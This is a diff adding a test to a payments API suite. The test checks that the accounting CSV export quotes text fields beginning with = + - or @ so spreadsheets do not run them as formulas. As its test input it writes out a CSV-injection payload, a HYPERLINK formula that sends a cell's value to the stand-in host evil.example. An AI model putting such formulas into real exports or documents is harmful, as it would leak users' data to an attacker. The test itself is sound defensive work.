@@ -432,4 +432,29 @@ describe("R-PAY-01 payments over HTTP", () => {
     assert.equal(b.json().id, a.json().id);
     assert.equal(b.headers["idempotent-replayed"], "true");
   });
+  it("the accounting export's CSV never hands a spreadsheet a formula: text fields starting with = + - @ are quoted as text", async () => {
+    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+    const paid = await call(as.clerk, "POST", "/api/bss/payments", {
+      accountId: payer,
+      method: "cash",
+      paidOn: "2026-03-02",
+      amount: "0.01",
+      reference: evil,
+      note: "@SUM(1+1)",
+      auto: false,
+    });
+    assert.equal(paid.statusCode, 201, paid.body);
+    const csv = await call(
+      as.viewer,
+      "GET",
+      "/api/bss/accounting-export?from=2026-03-02&to=2026-03-02&format=csv",
+    );
+    assert.equal(csv.statusCode, 200, csv.body);
+    const row = parseCsv(csv.body).find((l) => l[3] === "payment")!;
+    assert.ok(row, csv.body);
+    assert.equal(row[2], `'${evil}`, "the reference is text, not a formula");
+    assert.doesNotMatch(row[6]!, /^[=+\-@]/);
+    // Amounts stay numbers (a negative payment is not text).
+    assert.equal(row[12], "-0.01");
+  });
 });
